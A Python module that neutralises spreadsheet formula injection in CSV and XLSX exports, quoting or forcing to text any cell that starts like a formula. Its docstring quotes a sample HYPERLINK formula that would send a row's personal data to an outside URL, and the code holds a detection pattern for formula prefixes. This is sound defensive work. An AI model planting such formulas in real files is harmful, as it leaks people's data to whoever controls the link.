"""Cells for every CSV and XLSX file we hand out: text stays text.

A spreadsheet program runs a cell whose text begins with ``=`` as a formula, and when it
opens a CSV file also one beginning with ``+``, ``-``, ``@``, a tab or a carriage return. A
unit name typed as ``=HYPERLINK("http://…?leak="&A2,"点击")`` would then send the row's
personal data to whoever typed it as soon as a reviewer clicks. Every export writes its
rows through ``csv_row`` or ``xlsx_row``; numbers and dates we produce ourselves pass
through unchanged and stay numbers.

- XLSX: every text is written as a string cell (openpyxl would otherwise store a leading
  ``=`` as a formula and ``#N/A`` as an error value). A text that starts like a formula
  also gets Excel's "quote prefix" (what typing a leading ``'`` does): Excel and
  LibreOffice show exactly the typed text, and it stays text even if someone edits the
  cell and presses Enter. Control characters XML cannot carry are dropped, so one stray
  character cannot make the whole export fail.
- CSV: a CSV file has no types, so a text that starts like a formula gets a leading ``'``
  (the usual OWASP defence): shown as ``'=…``, never run.
"""

import re
from collections.abc import Iterable
from typing import Any, TypeAlias

from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

Sheet: TypeAlias = Worksheet | WriteOnlyWorksheet

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def csv_value(value: Any) -> Any:
    """``value`` for a CSV cell: a text that could start a formula gets a leading ``'``."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """``csv_value`` of each value (written out: this runs for every cell of an export)."""
    return [
        "'" + value if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) else value
        for value in values
    ]


# A cell that starts like a formula, in a row's cells joined with NUL: at the start or
# after a NUL. A NUL inside a value can only add a false alarm, never hide a formula.
_FORMULA_CELL = re.compile("(?:^|\x00)[=+\\-@\t\r]")


def csv_text_row(values: list[str]) -> list[Any]:
    """``csv_row`` for a row of texts, in one scan of the whole row: when no cell can start
    like a formula (nearly always), the row is returned as it is. Otherwise, or when the
    row holds anything but texts, each cell goes through ``csv_value``."""
    try:
        if not _FORMULA_CELL.search("\x00".join(values)):
            return values
    except TypeError:  # not all texts
        pass
    return csv_row(values)


def xlsx_value(sheet: Sheet, value: Any) -> Any:
    """``value`` for ``sheet.append``: a text that openpyxl would not store as plain text
    becomes a string cell; other texts, numbers and dates are returned as they are."""
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not (starts_like_formula(text) or text in ERROR_CODES):
        return text  # openpyxl stores it as a string already
    cell = Cell(sheet, row=1, column=1)  # placed by append
    cell._value = text  # bypass openpyxl's guessing (formula, error value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_row(sheet: Sheet, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` (normal or write-only sheets) in which text stays text."""
    return [xlsx_value(sheet, value) for value in values]
